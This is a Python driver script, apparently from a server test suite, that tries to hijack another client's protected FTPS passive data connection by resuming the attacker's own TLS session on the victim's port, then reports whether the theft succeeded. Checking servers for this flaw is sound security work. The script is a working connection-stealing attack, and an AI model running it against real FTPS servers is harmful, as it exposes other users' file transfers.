"""Tries to steal another client's PROT P data connection with a session of its own.

Usage: ftps_steal_driver.py PORT TLS_VERSION(1.2|1.3|any) VICTIM_DATA_PORT FILE

Logs in as reader over explicit FTPS (PROT P) and takes its control connection's
TLS session. Then it connects to VICTIM_DATA_PORT (a passive port another
session armed for its RETR) and makes that connection TLS resuming its own
session, as a client of the same address that knows the port could. Then, as
the control, it downloads FILE on its own data connection with the same
session. Prints one JSON line: whether each handshake resumed, the bytes
each read (hex) and any error.
"""

import ftplib
import json
import socket
import ssl
import sys

port, version, victim_port, name = int(sys.argv[1]), sys.argv[2], int(sys.argv[3]), sys.argv[4]

context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
if version != "any":  # "any": offer 1.3, settle for what the server has
    pin = ssl.TLSVersion.TLSv1_2 if version == "1.2" else ssl.TLSVersion.TLSv1_3
    context.minimum_version = pin
    context.maximum_version = pin


def read_all(conn):
    chunks = []
    try:
        while chunk := conn.recv(65536):
            chunks.append(chunk)
    except (OSError, ssl.SSLError):
        pass
    return b"".join(chunks)


ftp = ftplib.FTP_TLS(context=context, timeout=20)
ftp.connect("127.0.0.1", port)
ftp.login("reader", "readonly")
ftp.prot_p()
ftp.voidcmd("TYPE I")
ftp.voidcmd("NOOP")  # over TLS 1.3 the tickets come after the handshake: read past them
session = ftp.sock.session
result = {"has_ticket": session.has_ticket}

try:
    stolen = socket.create_connection(("127.0.0.1", victim_port), timeout=20)
    stolen = context.wrap_socket(stolen, server_hostname="127.0.0.1", session=session)
    result["stolen_reused"] = stolen.session_reused
    result["stolen_data"] = read_all(stolen).hex()
    stolen.close()
except (OSError, ssl.SSLError) as error:
    result["stolen_error"] = str(error)

try:
    _, own_port = ftplib.parse227(ftp.sendcmd("PASV"))
    own = socket.create_connection(("127.0.0.1", own_port), timeout=20)
    ftp.sendcmd(f"RETR {name}")
    own = context.wrap_socket(own, server_hostname="127.0.0.1", session=session)
    result["own_reused"] = own.session_reused
    result["own_data"] = read_all(own).hex()
    own.close()
    result["own_final"] = ftp.getresp()
except (OSError, ssl.SSLError, ftplib.Error) as error:
    result["own_error"] = str(error)

print(json.dumps(result), flush=True)
ftp.close()
